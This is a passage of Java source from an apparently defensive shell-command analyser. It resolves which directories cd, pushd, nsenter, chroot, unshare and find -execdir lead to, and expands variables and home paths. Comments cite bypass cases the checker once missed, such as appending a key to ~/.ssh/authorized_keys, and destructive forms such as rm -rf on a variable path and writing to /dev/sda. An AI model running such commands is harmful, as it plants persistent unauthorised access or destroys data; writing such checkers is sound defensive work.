    }
    return out;
  }

  /**
   * The spellings of {@code w} with the text's variables read (each a list of words, as split), or
   * null when it holds none that reads so. With {@code unknown}, only a word holding a variable set
   * to a value only known when it runs followed by a name, that variable read as each system directory.
   */
  private static List<List<Word>> substituted(Word w, java.util.Map<String, List<String>> values, boolean unknown) {
    String src = w.source();
    if (w.literal() || src == null) {
      return null;
    }
    src = unread(src, values);
    if (!Regexes.matches(src, "[A-Za-z0-9_./=:@%+,${}\"-]+")) {
      return null;
    }
    Matcher m = REFERENCE.matcher(src);
    List<String[]> parts = new ArrayList<>(); // literal text, then a variable's name, alternately
    int at = 0;
    boolean any = false;
    boolean anyUnknown = false;
    while (m.find()) {
      String name = m.group(1) != null ? m.group(1) : m.group(3);
      if (m.group(2) != null || !values.containsKey(name)) {
        return null;
      }
      List<String> vs = values.get(name);
      if (vs == null) {
        if (!unknown) {
          return null;
        }
        anyUnknown = true;
      }
      parts.add(new String[] {src.substring(at, m.start()), name});
      at = m.end();
      any = true;
    }
    if (!any || unknown && !anyUnknown) {
      return null;
    }
    String tail = src.substring(at);
    boolean ownValues = parts.stream().anyMatch(p -> p[1].startsWith(UNREAD_VALUE) && p[1].length() > UNREAD_VALUE.length()
        && values.get(p[1].substring(UNREAD_VALUE.length())) != null);
    if (unknown && !(ownValues && tail.replace("\"", "").isEmpty()) && !tail.replace("\"", "").startsWith("/")) {
      return null; // $x/auth.log: a name below the unknown directory
    }
    boolean quoted = src.indexOf('"') >= 0;
    List<String> texts = new ArrayList<>();
    texts.add("");
    for (String[] p : parts) {
      List<String> vs = values.get(p[1]);
      List<String> options = vs == null ? SYSTEM_DIRECTORIES : vs;
      if (p[1].startsWith(UNREAD_VALUE) && p[1].length() > UNREAD_VALUE.length()) {
        // ${x:0}, ${x#}: also the variable's own values (an operator that changes nothing).
        options = new ArrayList<>(SYSTEM_DIRECTORIES);
        List<String> own = values.get(p[1].substring(UNREAD_VALUE.length()));
        if (own != null) {
          options.addAll(own);
        }
      }
      List<String> next = new ArrayList<>();
      for (String t : texts) {
        for (String o : options) {
          if (next.size() < 4 * SYSTEM_DIRECTORIES.size()) {
            next.add(t + p[0] + o);
          }
        }
      }
      texts = next;
    }
    List<List<Word>> out = new ArrayList<>();
    for (String t : texts) {
      String v = (t + tail).replace("\"", "");
      if (v.contains("$") || v.contains("{")) {
        return null;
      }
      List<Word> words = new ArrayList<>();
      if (quoted) {
        words.add(Word.literal(v, v));
      } else {
        for (String part : v.trim().split("[ \\t\\n]+")) {
          if (!part.isEmpty()) {
            words.add(Word.literal(part, part));
          }
        }
      }
      out.add(words);
    }
    return out;
  }

  /** The name that stands for a reference whose value the reading does not work out. */
  private static final String UNREAD_VALUE = "__unread_value__";

  /** A positional parameter: {@code $1}, {@code ${10}}, {@code $@}, {@code ${*}}. */
  private static final Pattern POSITIONAL = Pattern.compile("\\$(?:[0-9@*]|\\{(?:[0-9]+|[@*])\\})");

  /** A braced reference with a subscript or an operator: {@code ${a[@]}}, {@code ${x%/}}, {@code ${x,,}}. */
  private static final Pattern OPERATED = Pattern.compile("\\$\\{([A-Za-z_][A-Za-z0-9_]*)(\\[[^\\]}]*\\])?([^}]*)\\}");

  /**
   * {@code src} with each reference whose value this reading does not work out (a positional
   * parameter; an element, or an operator other than {@code :-}/{@code -}/{@code :=}/{@code =}, of a
   * variable the text sets) written as {@link #UNREAD_VALUE}: a value only known when it runs.
   */
  private static String unread(String src, java.util.Map<String, List<String>> values) {
    String out = POSITIONAL.matcher(src).replaceAll(Matcher.quoteReplacement("${" + UNREAD_VALUE + "}"));
    Matcher m = OPERATED.matcher(out);
    StringBuilder sb = new StringBuilder();
    while (m.find()) {
      String op = m.group(3);
      boolean read = m.group(2) == null && (op.isEmpty() || Regexes.matches(op, "(?s):?[-=].*"));
      if (values.containsKey(m.group(1)) && !read) {
        String name = UNREAD_VALUE + m.group(1);
        values.putIfAbsent(name, null);
        m.appendReplacement(sb, Matcher.quoteReplacement("${" + name + "}"));
      } else {
        m.appendReplacement(sb, Matcher.quoteReplacement(m.group()));
      }
    }
    m.appendTail(sb);
    return sb.toString();
  }

  /**
   * Folds the text's {@code cd}, {@code pushd}, {@code popd}, {@code env -C}, {@code nsenter
   * -w/--wd} and {@code find -execdir} in order: a relative operand joins each directory known
   * before it ({@code ..} resolved), a pattern is matched against the system directories, {@code
   * ~}, {@code cd -}, {@code popd} and a relative operand also read the {@code HOME}, {@code
   * OLDPWD}, {@code DIRSTACK} and {@code CDPATH} values the text sets.
   */
  static Directories directories(ShellReading r) {
    java.util.Map<String, List<String>> vars = new java.util.HashMap<>();
    String guessed = null;
    for (ShellReading.Assignment a : r.assignments()) {
      String v = a.variable();
      if (!Set.of("CDPATH", "OLDPWD", "DIRSTACK", "HOME", "PWD").contains(v)) {
        continue;
      }
      if (a.value() == null || !a.value().literal()) {
        guessed = "the text sets " + v + " to a value only known when it runs: " + a.text();
        continue;
      }
      List<String> l = vars.computeIfAbsent(v, k -> new ArrayList<>());
      if (v.equals("CDPATH")) {
        for (String e : a.value().value().split(":", -1)) {
          l.add(e.isEmpty() ? "." : e);
        }
      } else {
        l.add(a.value().value());
      }
    }
    Set<String> dirs = new LinkedHashSet<>();
    String[] why = {guessed};
    boolean anyHome = false;
    Links made = links(r.commands());
    java.util.Map<String, List<String>> links = made.exact();
    for (ShellCommand c : r.commands()) {
      List<Word> named = new ArrayList<>();
      switch (c.name()) {
        case "cd", "pushd", "popd" -> {
          List<Word> ops = ShellClass.operands(c);
          if (c.name().equals("popd") || c.name().equals("pushd") && (ops.isEmpty()
              || Regexes.matches(ops.get(0).value(), "[+-][0-9]+"))) {
            for (String v : vars.getOrDefault("DIRSTACK", List.of())) {
              add(dirs, v, why); // popd, pushd +N: the stack's entries (the text's own cd's are read already)
            }
            continue;
          }
          if (ops.isEmpty()) {
            for (String v : homes(vars)) {
              add(dirs, v, why);
            }
            continue;
          }
          Word w = ops.get(0);
          if (w.literal() && w.value().equals("-")) {
            for (String v : vars.getOrDefault("OLDPWD", List.of())) {
              add(dirs, v, why);
            }
            continue;
          }
          named.add(w);
          if (w.value().indexOf(Word.UNKNOWN) < 0 && !w.value().startsWith("/") && !w.value().startsWith(".") && !w.value().startsWith("~")) {
            for (String p : vars.getOrDefault("CDPATH", List.of())) {
              if (!p.equals(".")) {
                named.add(Word.literal(w.source(), p + (p.endsWith("/") ? "" : "/") + w.value()));
              }
            }
          }
        }
        case "env" -> named.addAll(Wrappers.envChdirs(c.args()));
        case "nsenter" -> {
          List<Word> na = c.args();
          for (int i = 0; i < na.size(); i++) {
            Word w = na.get(i);
            String v = w.value();
            if (v.startsWith("--wd=") || v.startsWith("-w") && v.length() > 2 && !v.startsWith("--")) {
              String dir = v.substring(v.startsWith("--") ? 5 : 2);
              named.add(new Word(w.source(), dir, w.literal()));
            } else if (Set.of("-t", "-S", "-G", "--target", "--setuid", "--setgid", "--env").contains(v)
                || Regexes.matches(v, "-[A-Za-z]*[tSG]")) {
              i++; // nsenter -t 1 -m --wd=/var/log: the option's value
            } else if (!v.startsWith("-")) {
              break;
            }
          }
        }
        case "unshare", "start-stop-daemon" -> {
          // unshare -w/--wd DIR, start-stop-daemon -d/--chdir DIR: as env -C; unshare -R/--root
          // and start-stop-daemon -r/--chroot change the root.
          boolean ssd = c.name().equals("start-stop-daemon");
          String shortArgs = ssd ? "pxnugcsardNPIkOR" : "SGRwl";
          Set<String> longArgs = ssd ? Set.of("--pid", "--ppid", "--pidfile", "--exec", "--name", "--user", "--group",
              "--chuid", "--signal", "--startas", "--chroot", "--chdir", "--nicelevel", "--procsched", "--iosched",
              "--umask", "--output", "--retry", "--notify-timeout") : Set.of("--setuid", "--setgid", "--root", "--wd",
              "--propagation", "--setgroups", "--map-user", "--map-group", "--map-users", "--map-groups", "--load-interp",
              "--monotonic", "--boottime");
          char wd = ssd ? 'd' : 'w';
          char root = ssd ? 'r' : 'R';
          String wdLong = ssd ? "--chdir" : "--wd";
          String rootLong = ssd ? "--chroot" : "--root";
          Word newRoot = null;
          Word newWd = null;
          List<Word> a = c.args();
          for (int i = 0; i < a.size(); i++) {
            Word w = a.get(i);
            String v = w.value();
            if (v.equals("--") || !v.startsWith("-") || v.equals("-")) {
              if (ssd && !v.equals("--")) {
                continue; // start-stop-daemon's getopt permutes
              }
              break;
            }
            if (v.startsWith("--")) {
              int eq = v.indexOf('=');
              String opt = eq < 0 ? v : v.substring(0, eq);
              Word val = null;
              if (longArgs.contains(opt)) {
                val = eq >= 0 ? new Word(w.source(), v.substring(eq + 1), w.literal()) : i + 1 < a.size() ? a.get(++i) : null;
              }
              if (opt.equals(wdLong)) {
                newWd = val;
              } else if (opt.equals(rootLong)) {
                newRoot = val;
              }
              continue;
            }
            for (int k = 1; k < v.length(); k++) {
              char f = v.charAt(k);
              if (shortArgs.indexOf(f) >= 0) {
                Word val = k + 1 < v.length() ? new Word(w.source(), v.substring(k + 1), w.literal())
                    : i + 1 < a.size() ? a.get(++i) : null;
                if (f == wd) {
                  newWd = val;
                } else if (f == root) {
                  newRoot = val;
                }
                break;
              }
            }
          }
          changedRoot(newRoot, newWd, named, c, why);
        }
        case "chroot" -> {
          Word newRoot = null;
          boolean skip = false;
          List<Word> a = c.args();
          for (int i = 0; i < a.size(); i++) {
            String v = a.get(i).value();
            if (v.equals("--skip-chdir")) {
              skip = true;
            } else if (v.equals("--userspec") || v.equals("--groups")) {
              i++;
            } else if (v.equals("--")) {
              newRoot = i + 1 < a.size() ? a.get(i + 1) : null;
              break;
            } else if (!v.startsWith("-") || v.equals("-")) {
              newRoot = a.get(i);
              break;
            }
          }
          if (newRoot != null && !skip) {
            changedRoot(newRoot, null, named, c, why);
          } else if (newRoot != null && why[0] == null) {
            why[0] = "a command run in another root directory, only known when it runs: " + c.text();
          }
        }
        case "find" -> {
          if (c.argValues().contains("-execdir") || c.argValues().contains("-okdir")) {
            List<Word> fa = c.args();
            for (int i = 0; i < fa.size(); i++) {
              Word w = fa.get(i);
              String v = w.value();
              if (Regexes.matches(v, "-[HLP]+|-O[0-9]*|-D.+")) {
                continue;
              }
              if (v.equals("-D")) {
                i++; // its debug options
                continue;
              }
              if (v.startsWith("-") || v.equals("(") || v.equals("!")) {
                break;
              }
              named.add(w);
              if (w.literal()) {
                named.add(Word.literal(w.source(), w.value() + "/.."));
              }
            }
            if (why[0] == null) {
              why[0] = "find -execdir runs its command in each found name's directory: " + c.text();
            }
          }
        }
        default -> {
        }
      }
      for (Word w : new ArrayList<>(named)) {
        if (w == null) {
          continue;
        }
        String wv = w.value();
        if (!wv.startsWith("/") && !wv.startsWith("~") && wv.contains("..") && wv.indexOf(Word.UNKNOWN) < 0) {
          // cd d/../d: bash's cd tidies .. by the letters before it follows a link.
          w = new Word(w.source(), lexical(wv), w.literal());
        }
        for (var e : made.guessed().entrySet()) {
          if (aliased(w, e.getKey(), "/") != w && why[0] == null) {
            why[0] = "a directory through a symbolic link to a name relative to a directory only known when it runs: " + c.text();
          }
        }
        for (var e : links.entrySet()) {
          for (String t : e.getValue()) {
            Word j = aliased(w, e.getKey(), t);
            if (j != w) {
              named.add(j);
            }
          }
        }
      }
      for (Word w : named) {
        if (w == null) {
          continue;
        }
        if (w.value().indexOf(Word.UNKNOWN) == 0 && w.value().lastIndexOf(Word.UNKNOWN) == 0
            && w.value().startsWith("/", 1)) {
          // $HOME/.ssh, "$d"/.ssh: a directory only known when it runs, but for its known end; read
          // as that end under a home (homes) too, so that a name under .ssh is an account file's.
          // (Attack 17ck: cd $HOME/.ssh && tee authorized_keys was allowed.)
          add(dirs, "/home/user" + w.value().substring(1), why);
        }
        if (w.value().indexOf(Word.UNKNOWN) >= 0) {
          continue; // only known when it runs
        }
        String v = w.value();
        if (v.equals("~") || v.startsWith("~/")) {
          for (String h : homes(vars)) {
            add(dirs, h + v.substring(1), why);
          }
          continue;
        }
        String homeRest = otherHomeRest(v);
        if (homeRest != null) {
          // Another user's home: any system directory (~sys is /dev), or a home under /home. Itself
          // or a parent of it is read as each system directory; a directory below it is only known
          // when it runs.
          String tail = homeRest.replace("/", "");
          if (tail.isEmpty() || homeRest.contains("..")) {
            anyHome = true;
            for (String d : HOME_DIRECTORIES) {
              add(dirs, d + homeRest, why);
            }
          } else if (why[0] == null) {
            why[0] = "a directory in another user's home, only known when it runs: " + c.text();
          }
        }
        if (v.startsWith("~")) {
          int slash = v.indexOf('/');
          String user = slash < 0 ? v.substring(1) : v.substring(1, slash);
          String rest = slash < 0 ? "" : v.substring(slash);
          if (!rest.isEmpty() && Regexes.matches(user, "[A-Za-z0-9_.-]+")) {
            List<String> homes = user.equals("root") ? List.of("/root") : List.of("/home/" + user, "/" + user);
            for (String h : homes) {
              add(dirs, h + rest, why);
            }
            if (rest.contains("..")) {
              why[0] = "a directory relative to a home directory only known when it runs: " + c.text();
            }
          }
          continue;
        }
        if (v.startsWith("/")) {
          add(dirs, v, why);
        } else {
          for (String d : new ArrayList<>(dirs)) {
            add(dirs, d + (d.endsWith("/") ? "" : "/") + v, why);
          }
        }
      }
    }
    return new Directories(dirs, why[0], anyHome);
  }

  /**
   * A command run with its root changed to {@code newRoot} (null: not changed) and its working
   * directory {@code newWd} (null: not changed, or the new root's {@code /} where the root changes):
   * a new root of {@code /} leaves names as they are; another makes them only known when it runs.
   */
  private static void changedRoot(Word newRoot, Word newWd, List<Word> named, ShellCommand c, String[] why) {
    if (newRoot == null) {
      if (newWd != null) {
        named.add(newWd);
      }
      return;
    }
    if (newRoot.literal() && newRoot.value().indexOf(Word.UNKNOWN) < 0 && ShellClass.normalize(newRoot.value()).equals("/")) {
      named.add(newWd != null ? newWd : Word.literal(newRoot.source(), "/"));
      return;
    }
    if (why[0] == null) {
      why[0] = "a command run in another root directory, only known when it runs: " + c.text();
    }
  }

  /** Adds the absolute {@code path}, {@code ..} resolved, or the system directories a pattern in it could name. */
  /**
   * The home directories {@code ~} and a bare {@code cd} name: the {@code HOME} values the text
   * sets, or where it sets none the session user's home, not known here: read as a user's home,
   * {@code /home/user}, whose {@code .ssh} and history files the path classes know as any user's
   * (not {@code /root}, whose every file is an account file's: {@code cd ~/src && tee out}). (Attack 17ck:
   * with no {@code HOME} set, {@code cd ~/.ssh && echo KEY >> authorized_keys} joined no directory
   * and was allowed.)
   */
  private static List<String> homes(java.util.Map<String, List<String>> vars) {
    return vars.getOrDefault("HOME", List.of("/home/user"));
  }

  private static void add(Set<String> dirs, String path, String[] why) {
    if (!path.startsWith("/")) {
      return;
    }
    if (!PathPatterns.hasGlob(path)) {
      dirs.add(ShellClass.normalize(path));
      return;
    }
    String[] parts = Regexes.split(path.substring(1), "/+");
    boolean matched = false;
    for (String known : SYSTEM_DIRECTORIES) {
      String[] k = known.equals("/") ? new String[0] : known.substring(1).split("/");
      int depth = k.length;
      if (depth == 0 || depth > parts.length) {
        continue;
      }
      // The pattern's first components against the known directory; the rest joined literally.
      boolean all = true;
      for (int i = 0; i < depth && all; i++) {
        all = PathPatterns.componentCouldBe(parts[i], List.of(k[i]));
      }
      if (all) {
        String rest = String.join("/", java.util.Arrays.copyOfRange(parts, depth, parts.length));
        String p = ShellClass.normalize(known + "/" + rest);
        if (!PathPatterns.hasGlob(p)) {
          dirs.add(p);
          matched = true;
        }
      }
    }
    if (!matched) {
      why[0] = "a directory named by a pattern only known when it runs: " + path;
    }
  }

  /** {@code w} read from directory {@code d} (null: not known), or {@code w} itself when that reads it alike. */
  private static Word joined(String d, Word w, String[] unknown) {
    String v = w.value();
    String prefix = "";
    int eq = v.indexOf('=');
    String name = eq < 0 ? "" : v.substring(0, eq + 1).replace(String.valueOf(Word.UNKNOWN), "");
    boolean unknownName = eq >= 0 && name.length() != eq + 1;
    Matcher m = OPTION_VALUE.matcher(unknownName ? name + v.substring(eq + 1) : v);
    if (m.matches() && !(unknownName && name.length() <= 1)) {
      // of=sda, and ${x}of=/dev/sda, o${x}f=/dev/sda: the unknown part may be empty.
      prefix = m.group(1);
      v = m.group(2);
    } else if (v.startsWith("-")) {
      return w;
    } else {
      unknownName = false;
    }
    if (v.isEmpty() || v.contains("{}")) {
      return w; // find's found name: not read from a directory
    }
    int last = v.lastIndexOf(Word.UNKNOWN);
    if (last >= 0) {
      // ${x}etc, "$PWD"etc, ${x}/etc, .${x}etc, ${x}..${y}etc: an unknown part may be / or
      // /../../../ (or end in one), so what follows the last of them may be a name at the root.
      String rest = v.substring(last + 1);
      if (d != null || rest.isEmpty() || rest.startsWith("/") && ShellClass.rootish(rest)) {
        return w; // rm -rf "$d"/, "$d"/*, $x/etc: the recursive-delete rule's unclassified reading
      }
      return at(w, prefix, rest.startsWith("/") ? rest : "/" + rest, unknown);
    }
    if (unknownName && (v.startsWith("/") || v.startsWith("~"))) {
      return at(w, prefix, v, unknown);
    }
    if (v.indexOf(Word.UNKNOWN) >= 0 || v.startsWith("/") || v.startsWith("~")) {
      return w;
    }
    if (d != null) {
      return at(w, prefix, d + (d.endsWith("/") ? "" : "/") + v, unknown);
    }
    // The working directory not known: a name that reaches a kernel link from /proc or /dev.
    int slash = v.indexOf('/');
    if (slash <= 0) {
      return w;
    }
    String first = v.substring(0, slash);
    String base;
    if (could(first, "self", "thread-self", "net", "mounts") || Regexes.matches(first, "[0-9]+")) {
      base = "/proc/";
    } else if (could(first, "root", "cwd")) {
      base = "/proc/self/";
    } else if (could(first, "fd", "stdin", "stdout", "stderr")) {
      base = "/dev/";
    } else {
      return w;
    }
    KernelPaths.Resolved r = KernelPaths.resolved(base + v);
    if (r == null) {
      return w;
    }
    unknown[0] = "a relative path that reaches a kernel link from a working directory only known when it runs: "
        + w.shown();
    return new Word(w.source(), prefix + r.value(), w.literal());
  }

  private static boolean could(String component, String... names) {
    return PathPatterns.componentCouldBe(component, List.of(names));
  }

  /** {@code w} as the absolute {@code path} (its links followed, its {@code ..} resolved). */
  private static Word at(Word w, String prefix, String path, String[] unknown) {
    KernelPaths.Resolved r = KernelPaths.resolved(path);
    String p;
    if (r != null) {
      p = r.value();
      if (r.unknownDirectory() && unknown[0] == null) {
        unknown[0] = "a path in a directory only known when it runs (the working directory's or a descriptor's): "
            + w.shown();
      }
    } else {
      p = ShellClass.normalize(path);
      if (path.endsWith("/") && !p.endsWith("/")) {
        p += "/";
      }
    }
    return new Word(w.source(), prefix + p, w.literal());
  }
}
